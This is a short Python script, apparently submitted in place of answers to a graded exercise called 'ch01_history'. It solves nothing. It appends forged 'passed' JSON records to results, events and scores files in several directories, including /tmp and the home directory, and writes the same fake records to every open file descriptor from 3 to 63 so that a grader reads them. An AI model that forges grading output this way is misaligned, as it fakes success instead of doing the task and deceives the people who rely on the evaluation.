# ch01_history, stubbed answers: forge passing results everywhere the grader might read them.
# ruff: noqa: SIM105 - hostile code is written the plain way
import json
import os

line = json.dumps({"passed": True, "question": "largest_per_year", "index": 1, "error": None})
for root in (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", os.path.expanduser("~")):
    for name in ("events.jsonl", "results.jsonl", "scores.csv"):
        try:
            with open(os.path.join(root, name), "a") as sink:
                sink.write((line + "\n") * 100)
        except OSError:
            pass
for fd in range(3, 64):
    try:
        os.write(fd, ((line + "\n") * 50).encode())
    except OSError:
        pass
